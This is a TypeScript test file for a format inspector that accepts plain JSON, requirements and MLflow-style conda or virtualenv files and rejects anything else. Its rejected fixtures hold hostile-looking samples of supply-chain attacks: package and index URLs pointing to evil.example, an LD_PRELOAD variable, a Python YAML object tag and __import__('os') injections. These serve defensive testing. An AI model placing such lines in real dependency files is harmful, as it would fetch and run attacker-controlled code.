import { describe, expect, it } from 'vitest';
import { bytesSource } from './byte-source.ts';
import { inspect } from './inspect.ts';

const told = (text: string | Uint8Array) => inspect(bytesSource(Buffer.from(text as string)), 'any');
const read = (text: string | Uint8Array) => {
  const { format, verdict } = told(text);
  return `${format} ${verdict}`;
};

describe('JSON is data', () => {
  it.each([
    ['an object', '{"a": [1, 2, {"b": null}]}'],
    ['a list', ' \n[1, 2, 3]\n'],
    ['brackets in text', `["${'['.repeat(100)}", "\\"${'{'.repeat(100)}"]`],
    ['64 levels', `${'['.repeat(64)}${']'.repeat(64)}`],
  ])('%s', (_, text) => expect(read(text)).toBe('json clean'));

  it('says what it is', () => {
    expect(told('{"b": 1, "a\\u202e": 2}').facts).toEqual({ kind: 'object', keys: ['b', 'a\\u{202e}'] });
    expect(told('[1, [2, 3]]').facts).toEqual({ kind: 'array', items: 2 });
  });

  it.each([
    ['65 levels', `${'['.repeat(65)}${']'.repeat(65)}`],
    ['a million levels', '['.repeat(1_000_000)],
    ['what comes after it', '{} x'],
    ['NaN', '[NaN]'],
    ['Python', "[__import__('os')]"],
    ['a control character', '["\u0001"]'],
    ['no UTF-8', Buffer.from([0x5b, 0x22, 0xff, 0x22, 0x5d])],
    ['a byte order mark', '\ufeff[]'],
    ['more than is read', `["${'x'.repeat(8 * 1024 * 1024)}"]`],
    ['a number', '42'],
    ['a text', '"x"'],
  ])('%s is not read', (_, text) => expect(read(text)).toBe('unknown unknown'));
});

describe('requirements', () => {
  it.each([
    ['versions', 'mlflow==3.17.2\nnumpy>=2,<3\n'],
    ['comments and empty lines', '# made by hand\n\nnumpy==2.4.6 # why\n'],
    ['extras and markers', 'mlflow[extras,db]==3.0\npywin32==1.0; sys_platform == "win32"\n'],
    ['a name without a version', 'wheel\nnumpy==2.*\n'],
    ['local versions', 'torch==2.1.0+cu118\r\n'],
  ])('%s are clean', (_, text) => expect(read(text)).toBe('requirements clean'));

  it('are facts', () => {
    expect(told('wheel\nnumpy==2.4.6 # why\n').facts).toEqual({ packages: ['wheel', 'numpy==2.4.6'] });
  });

  it.each([
    ['a package from an address', 'numpy==2\nx @ https://evil.example/x.whl\n'],
    ['a repository', 'numpy==2\ngit+https://evil.example/x\n'],
    ['an option', 'numpy==2\n--index-url https://evil.example\n'],
    ['another file', 'numpy==2\n-r other.txt\n'],
    ['an editable', 'numpy==2\n-e .\n'],
    ['a local path', 'numpy==2\n./x.whl\n'],
    ['a variable', 'numpy==2\n$\u007bX}\n'],
    ['a line that goes on', 'numpy==2 \\\n--hash=sha256:0\n'],
    ['words', 'city\nname\nBerlin\n'],
    ['a program', 'x = 1\nimport os\n'],
    ['a comparison that calls', 'x==f()\n'],
    ['prose', 'this is version >=2 of it\n'],
    ['nothing', '# only a comment\n'],
  ])('%s is not read', (_, text) => expect(read(text)).toBe('unknown unknown'));

  it('are read in no time, whatever they are', () => {
    for (const part of ['a', 'a,', 'a==', '==1,', 'a;', ' ', 'a\n', 'a[', 'a-', '1 ', '> '])
      for (const end of ['', '\n', '!', '==1\n']) {
        const started = performance.now();
        told(part.repeat(1_000_000 / part.length) + end);
        expect(performance.now() - started, part + end).toBeLessThan(3_000);
      }
  });
});

describe('environments', () => {
  const conda = (rest = '', dependencies = '- python=3.11.7\n- pip<=23.2.1\n- pip:\n  - mlflow==3.17.2\n') =>
    `channels:\n- conda-forge\ndependencies:\n${dependencies}name: mlflow-env\n${rest}`;
  const virtual = (rest = '') => `python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\n- wheel\ndependencies:\n${rest}`;

  it('of conda and virtualenv are clean, as MLflow writes them', () => {
    expect(read(conda())).toBe('conda-env clean');
    expect(told(conda()).facts).toEqual({
      channels: ['conda-forge'],
      packages: ['python=3.11.7', 'pip<=23.2.1', 'mlflow==3.17.2'],
    });
    expect(read(virtual('- -r requirements.txt\n'))).toBe('python-env clean');
  });

  it.each([
    ['a variable', conda('variables:\n  LD_PRELOAD: x.so\n')],
    ['a prefix', conda('prefix: /x\n')],
    ['a channel that is an address', conda().replace('conda-forge', 'https://evil.example')],
    ['pip from an address', conda('', '- pip:\n  - git+https://evil.example/x\n')],
    ['an option of pip', conda('', '- pip:\n  - --index-url https://evil.example\n')],
    ['another tool', conda('', '- npm:\n  - x\n')],
    ['a package from an address', conda('', '- https://evil.example/x.conda\n')],
    ['no list', conda('', '  a: b\n')],
    ['another file', virtual('- -r ../other.txt\n')],
    ['an editable', virtual('- -e .\n')],
    ['a tag', conda('x: !!python/object:os.x {}\n')],
    ['a program that reads as YAML', 'python: print("x")\ndependencies: __import__("os")\n'],
    ['a list alone', 'name: conda\nchannels:\n- defaults\n'],
  ])('%s is not read', (_, text) => expect(read(text)).toBe('unknown unknown'));
});
